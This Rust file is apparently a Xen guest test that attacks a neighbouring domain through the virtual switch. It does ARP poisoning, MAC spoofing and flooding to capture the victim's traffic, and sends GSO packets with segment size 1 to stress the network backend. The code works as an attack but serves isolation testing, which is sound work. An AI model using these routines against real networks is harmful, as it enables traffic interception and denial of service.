//! Hostile users of vif 0 beside a Linux victim on the switch: `test=mac-spoof` (frames with the
//! victim's source MAC, ARPs claiming its IP, a flood of random source MACs, while counting the
//! frames for the victim that reach this domain) and `test=gso` (64 KiB TCPv4 GSO packets with
//! `gso.size = 1`).
//!
//! Command-line words: `victim=<domid>` (its first vif has MAC `00:16:3e:00:<domid>:00`),
//! `victim-ip=` (default 10.0.0.2), `ip=` (this domain's, default 10.0.0.9), `peer-ip=` (the
//! hypervisor's peer host, default 10.0.0.1). Both attacks start once a frame from the victim's
//! MAC shows the victim is up (its first broadcasts), run for a bounded time, report and power
//! off.

use guest_abi::xenstore::XENBUS_STATE_CONNECTED;

use crate::cmdline::CmdLine;
use crate::hvm::{self, Deadline};
use crate::netif::{Mac, Netfront, TxStats};
use crate::xen;
use crate::xs::{parse_u32, Xs};

/// EtherType IPv4.
const ETH_P_IP: u16 = 0x0800;
/// EtherType ARP.
const ETH_P_ARP: u16 = 0x0806;
/// EtherType for local experiments (IEEE 802 "local experimental 1"): frames nobody handles.
const ETH_P_LOCAL: u16 = 0x88B5;
/// The broadcast MAC.
const BROADCAST: [u8; 6] = [0xFF; 6];
/// A minimal Ethernet frame (without FCS).
const MIN_FRAME: usize = 60;
/// How long the attacker waits for the victim's first frame (ms of system time).
const VICTIM_WAIT_MS: u64 = 600_000;
/// How long one ARP request for the peer waits for the reply (ms).
const ARP_WAIT_MS: u64 = 2_000;
/// ARP requests for the peer at most.
const ARP_TRIES: usize = 3;
/// Random-source frames of the first flood.
const FLOOD_FRAMES: usize = 4096;
/// How long `mac-spoof` keeps attacking once the victim is up (ms).
const SPOOF_MS: u64 = 40_000;
/// Random-source frames per attack round of `mac-spoof`.
const ROUND_FLOOD: usize = 64;
/// How long `mac-spoof` listens between rounds (ms).
const ROUND_LISTEN_MS: u64 = 100;
/// Size of each `gso` packet (16 data slots; IPv4 total length 65520).
const GSO_LEN: usize = 65_534;
/// The segment size `gso` asks for.
const GSO_MSS: u16 = 1;
/// `gso` packets sent at most.
const GSO_PACKETS: u64 = 64;
/// How long `gso` keeps sending once the victim is up (ms).
const GSO_MS: u64 = 30_000;
/// How long `gso` listens between packets (ms).
const GSO_LISTEN_MS: u64 = 20;
/// The last listen before the report (ms).
const FINAL_LISTEN_MS: u64 = 1_000;

/// The addresses an attack uses.
#[derive(Clone, Copy)]
struct Addrs {
    /// This domain's MAC.
    mac: [u8; 6],
    /// This domain's IPv4 address.
    ip: [u8; 4],
    /// The peer host's IPv4 address.
    peer_ip: [u8; 4],
    /// The peer host's MAC (broadcast if it never answered ARP).
    peer_mac: [u8; 6],
    /// The victim's MAC.
    victim_mac: [u8; 6],
    /// The victim's IPv4 address.
    victim_ip: [u8; 4],
}

/// Displays an IPv4 address.
struct Ip([u8; 4]);

impl core::fmt::Display for Ip {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        let [a, b, c, d] = self.0;
        write!(f, "{a}.{b}.{c}.{d}")
    }
}

/// `a.b.c.d` as four bytes.
fn parse_ipv4(s: &[u8]) -> Option<[u8; 4]> {
    let mut ip = [0u8; 4];
    let mut parts = s.split(|&c| c == b'.');
    for b in &mut ip {
        let p = parts.next()?;
        if p.is_empty() || !p.iter().all(u8::is_ascii_digit) {
            return None;
        }
        *b = u8::try_from(parse_u32(p)?).ok()?;
    }
    parts.next().is_none().then_some(ip)
}

/// Reports a failed step and crashes the domain.
fn fail(tag: &str, what: core::fmt::Arguments<'_>) -> ! {
    say!("{tag} FAIL ({what})");
    xen::shutdown(xen::SHUTDOWN_CRASH)
}

/// An IPv4 address from command-line word `key`, or `default`.
fn ip_arg(tag: &str, cmd: &CmdLine, key: &[u8], default: [u8; 4]) -> [u8; 4] {
    match cmd.word_value(key) {
        None => default,
        Some(v) => parse_ipv4(v).unwrap_or_else(|| {
            fail(
                tag,
                format_args!(
                    "bad {}{}",
                    crate::console::Bytes(key),
                    crate::console::Bytes(v)
                ),
            )
        }),
    }
}

/// Writes an Ethernet header.
fn eth(f: &mut [u8], dst: [u8; 6], src: [u8; 6], ty: u16) {
    f[0..6].copy_from_slice(&dst);
    f[6..12].copy_from_slice(&src);
    f[12..14].copy_from_slice(&ty.to_be_bytes());
}

/// An ARP frame (`op` 1 request, 2 reply) from Ethernet source `src` to `dst`.
#[allow(clippy::too_many_arguments)]
fn arp(
    dst: [u8; 6],
    src: [u8; 6],
    op: u16,
    sha: [u8; 6],
    spa: [u8; 4],
    tha: [u8; 6],
    tpa: [u8; 4],
) -> [u8; MIN_FRAME] {
    let mut f = [0u8; MIN_FRAME];
    eth(&mut f, dst, src, ETH_P_ARP);
    f[14..16].copy_from_slice(&1u16.to_be_bytes());
    f[16..18].copy_from_slice(&ETH_P_IP.to_be_bytes());
    f[18] = 6;
    f[19] = 4;
    f[20..22].copy_from_slice(&op.to_be_bytes());
    f[22..28].copy_from_slice(&sha);
    f[28..32].copy_from_slice(&spa);
    f[32..38].copy_from_slice(&tha);
    f[38..42].copy_from_slice(&tpa);
    f
}

/// A frame of [`ETH_P_LOCAL`] from `src` to `dst`.
fn junk(dst: [u8; 6], src: [u8; 6]) -> [u8; MIN_FRAME] {
    let mut f = [0u8; MIN_FRAME];
    eth(&mut f, dst, src, ETH_P_LOCAL);
    f[14..20].copy_from_slice(b"xenol!");
    f
}

/// The sender's hardware address of an ARP reply from `ip`.
fn arp_reply_from(h: &[u8], ip: [u8; 4]) -> Option<[u8; 6]> {
    if h.len() < 42 || h[12..14] != ETH_P_ARP.to_be_bytes() || h[20..22] != 2u16.to_be_bytes() {
        return None;
    }
    if h[28..32] != ip {
        return None;
    }
    let mut sha = [0u8; 6];
    sha.copy_from_slice(&h[22..28]);
    Some(sha)
}

/// The Internet checksum's folded one's-complement sum of `data` plus `sum` (not inverted).
fn fold_sum(data: &[u8], mut sum: u32) -> u16 {
    for pair in data.chunks(2) {
        let hi = u32::from(pair[0]) << 8;
        let lo = pair.get(1).copied().map_or(0, u32::from);
        sum += hi | lo;
    }
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    sum as u16
}

/// A small xorshift generator for source MACs.
struct Rng(u64);

impl Rng {
    /// The next 64 random bits.
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// A random locally administered unicast MAC.
    fn mac(&mut self) -> [u8; 6] {
        let r = self.next().to_le_bytes();
        [(r[0] & 0xFC) | 0x02, r[1], r[2], r[3], r[4], r[5]]
    }
}

/// What arrived on the attacker's RX ring.
#[derive(Default)]
struct Seen {
    /// Frames sent by the victim's MAC (its broadcasts).
    victim_frames: u64,
    /// Frames for the victim: to its MAC, or IPv4 to its address.
    stolen: u64,
}

impl Seen {
    /// Looks at one frame's head; true if the victim sent it.
    fn observe(&mut self, tag: &str, a: &Addrs, h: &[u8]) -> bool {
        if h.len() < 14 {
            return false;
        }
        let from_victim = h[6..12] == a.victim_mac;
        if from_victim {
            self.victim_frames += 1;
        }
        let to_mac = h[0..6] == a.victim_mac;
        let to_ip =
            h[12..14] == ETH_P_IP.to_be_bytes() && h.len() >= 34 && h[30..34] == a.victim_ip;
        if to_mac || to_ip {
            self.stolen += 1;
            if self.stolen <= 3 {
                let mut dst = [0u8; 6];
                dst.copy_from_slice(&h[0..6]);
                let mut src = [0u8; 6];
                src.copy_from_slice(&h[6..12]);
                say!(
                    "{tag} got a frame for the victim: dst={} src={} type={:#06x}",
                    Mac(dst),
                    Mac(src),
                    u16::from_be_bytes([h[12], h[13]])
                );
            }
        }
        from_victim
    }
}

/// Connects vif 0, learns the peer's MAC by ARP; returns the store, the vif and the addresses.
fn setup(tag: &str, cmd: &CmdLine, gso: bool) -> (Xs, Netfront, Addrs) {
    let victim = cmd
        .word_value(b"victim=")
        .and_then(parse_u32)
        .filter(|&d| d > 0 && d < 256)
        .unwrap_or_else(|| fail(tag, format_args!("no victim=<domid> on the command line")));
    let victim_ip = ip_arg(tag, cmd, b"victim-ip=", [10, 0, 0, 2]);
    let ip = ip_arg(tag, cmd, b"ip=", [10, 0, 0, 9]);
    let peer_ip = ip_arg(tag, cmd, b"peer-ip=", [10, 0, 0, 1]);
    let mut xs = Xs::open().unwrap_or_else(|e| fail(tag, format_args!("xenstore: {e}")));
    let mut net = Netfront::connect(&mut xs, gso)
        .unwrap_or_else(|e| fail(tag, format_args!("netfront: {e}")));
    say!(
        "{tag} vif mac={} ip={} connected to {}",
        Mac(net.mac),
        Ip(ip),
        net.backend
    );
    let mut peer_mac = None;
    for _ in 0..ARP_TRIES {
        let req = arp(BROADCAST, net.mac, 1, net.mac, ip, [0; 6], peer_ip);
        net.queue(&req);
        net.flush();
        net.listen(Deadline::after_ms(ARP_WAIT_MS), |h| {
            peer_mac = peer_mac.or(arp_reply_from(h, peer_ip));
            peer_mac.is_some()
        });
        if peer_mac.is_some() {
            break;
        }
    }
    let peer_mac = match peer_mac {
        Some(m) => {
            say!("{tag} peer {} is at {}", Ip(peer_ip), Mac(m));
            m
        }
        None => {
            say!(
                "{tag} peer {} did not answer ARP; sending to broadcast",
                Ip(peer_ip)
            );
            BROADCAST
        }
    };
    let a = Addrs {
        mac: net.mac,
        ip,
        peer_ip,
        peer_mac,
        victim_mac: [0x00, 0x16, 0x3E, 0x00, victim as u8, 0x00],
        victim_ip,
    };
    (xs, net, a)
}

/// Waits for the victim's first frame, counting what arrives; prints when it came.
fn wait_for_victim(tag: &str, net: &mut Netfront, a: &Addrs, seen: &mut Seen) -> bool {
    let t0 = hvm::now_ns();
    let up = net.listen(Deadline::after_ms(VICTIM_WAIT_MS), |h| {
        seen.observe(tag, a, h)
    });
    let ms = (hvm::now_ns() - t0) / 1_000_000;
    if up {
        say!("{tag} victim {} seen after {ms} ms", Mac(a.victim_mac));
    } else {
        say!("{tag} victim {} not seen in {ms} ms", Mac(a.victim_mac));
    }
    up
}

/// One round of spoofing: `flood` random-source frames to the peer, two frames with the
/// victim's source MAC, a gratuitous ARP and an ARP reply to the peer that both claim the
/// victim's IP for this domain's MAC. Returns the frames queued.
fn spoof_round(net: &mut Netfront, a: &Addrs, rng: &mut Rng, flood: usize) -> u64 {
    let mut sent = 0;
    let mut send = |net: &mut Netfront, f: &[u8]| {
        if net.queue(f) {
            sent += 1;
        }
    };
    for _ in 0..2 {
        send(net, &junk(a.peer_mac, a.victim_mac));
    }
    let garp = arp(BROADCAST, a.mac, 1, a.mac, a.victim_ip, [0; 6], a.victim_ip);
    send(net, &garp);
    let poison = arp(
        a.peer_mac,
        a.mac,
        2,
        a.mac,
        a.victim_ip,
        a.peer_mac,
        a.peer_ip,
    );
    send(net, &poison);
    for _ in 0..flood {
        send(net, &junk(a.peer_mac, rng.mac()));
    }
    net.flush();
    sent
}

/// Prints the backend's state if the vif is no longer connected.
fn report_backend(tag: &str, xs: &mut Xs, net: &Netfront) {
    let state = net.backend_state(xs);
    if state != XENBUS_STATE_CONNECTED {
        say!("{tag} backend state={state}: vif disconnected");
    }
}

/// `test=mac-spoof`: see the module documentation.
pub fn mac_spoof(cmd: &CmdLine) -> ! {
    const TAG: &str = "mac-spoof";
    let (mut xs, mut net, a) = setup(TAG, cmd, false);
    let mut rng = Rng(hvm::now_ns() | 1);
    let mut seen = Seen::default();
    let mut sent = spoof_round(&mut net, &a, &mut rng, FLOOD_FRAMES);
    say!(
        "{TAG} flooded {FLOOD_FRAMES} random source MACs, spoofed {} and {}",
        Mac(a.victim_mac),
        Ip(a.victim_ip)
    );
    if wait_for_victim(TAG, &mut net, &a, &mut seen) {
        let until = Deadline::after_ms(SPOOF_MS);
        while !until.passed() && !net.tx_stalled() {
            sent += spoof_round(&mut net, &a, &mut rng, ROUND_FLOOD);
            if net.tx_in_flight() > 0 && net.backend_state(&mut xs) != XENBUS_STATE_CONNECTED {
                break;
            }
            net.listen(until.min_after_ms(ROUND_LISTEN_MS), |h| {
                seen.observe(TAG, &a, h);
                false
            });
        }
    }
    net.listen(Deadline::after_ms(FINAL_LISTEN_MS), |h| {
        seen.observe(TAG, &a, h);
        false
    });
    let t = net.tx;
    say!(
        "{TAG} sent={sent} stolen={} victim-frames={} rx-frames={} tx-ok={} tx-error={} tx-dropped={}",
        seen.stolen,
        seen.victim_frames,
        net.rx_frames,
        t.ok,
        t.error,
        t.dropped
    );
    report_backend(TAG, &mut xs, &net);
    say!("{TAG} done, shutting down");
    xen::shutdown(xen::SHUTDOWN_POWEROFF)
}

/// The headers of a [`GSO_LEN`]-byte TCPv4 packet to the peer's discard port, with the TCP
/// checksum field holding the pseudo-header sum (`NETTXF_csum_blank`, as Linux sends it).
fn gso_head(a: &Addrs, n: u64) -> [u8; 54] {
    let mut h = [0u8; 54];
    eth(&mut h, a.peer_mac, a.mac, ETH_P_IP);
    let ip_len = (GSO_LEN - 14) as u16;
    let ip = &mut h[14..34];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&ip_len.to_be_bytes());
    ip[4..6].copy_from_slice(&(n as u16).to_be_bytes());
    ip[6] = 0x40; // DF
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&a.ip);
    ip[16..20].copy_from_slice(&a.peer_ip);
    let c = !fold_sum(ip, 0);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    let tcp = &mut h[34..54];
    tcp[0..2].copy_from_slice(&40_000u16.to_be_bytes());
    tcp[2..4].copy_from_slice(&9u16.to_be_bytes());
    tcp[4..8].copy_from_slice(&((n as u32).wrapping_mul(GSO_LEN as u32)).to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x18; // PSH, ACK
    tcp[14..16].copy_from_slice(&0xFFFFu16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&a.ip);
    pseudo[4..8].copy_from_slice(&a.peer_ip);
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&(ip_len - 20).to_be_bytes());
    let partial = fold_sum(&pseudo, 0);
    h[50..52].copy_from_slice(&partial.to_be_bytes());
    h
}

/// `test=gso`: see the module documentation.
pub fn gso(cmd: &CmdLine) -> ! {
    const TAG: &str = "gso";
    let (mut xs, mut net, a) = setup(TAG, cmd, true);
    let mut seen = Seen::default();
    if wait_for_victim(TAG, &mut net, &a, &mut seen) {
        // Only the GSO packets' responses count.
        net.tx = TxStats::default();
        let until = Deadline::after_ms(GSO_MS);
        let mut n = 0;
        while n < GSO_PACKETS && !until.passed() {
            n += 1;
            if !net.send_gso(&gso_head(&a, n), GSO_LEN, GSO_MSS) {
                // Unanswered within the timeout: a backend that disconnected the vif is
                // reported below.
                if net.backend_state(&mut xs) != XENBUS_STATE_CONNECTED {
                    break;
                }
                if net.tx_in_flight() > 0 {
                    say!("{TAG} backend stopped answering after {n} packets");
                    break;
                }
            }
            net.listen(Deadline::after_ms(GSO_LISTEN_MS), |h| {
                seen.observe(TAG, &a, h);
                false
            });
        }
    }
    net.listen(Deadline::after_ms(FINAL_LISTEN_MS), |h| {
        seen.observe(TAG, &a, h);
        false
    });
    let t = net.tx;
    say!(
        "{TAG} sent={} packets of {GSO_LEN} bytes with gso.size={GSO_MSS}",
        t.sent
    );
    say!(
        "{TAG} responses ok={} error={} dropped={} other={} unanswered-slots={}",
        t.ok,
        t.error,
        t.dropped,
        t.other,
        net.tx_in_flight()
    );
    report_backend(TAG, &mut xs, &net);
    say!("{TAG} done, shutting down");
    xen::shutdown(xen::SHUTDOWN_POWEROFF)
}
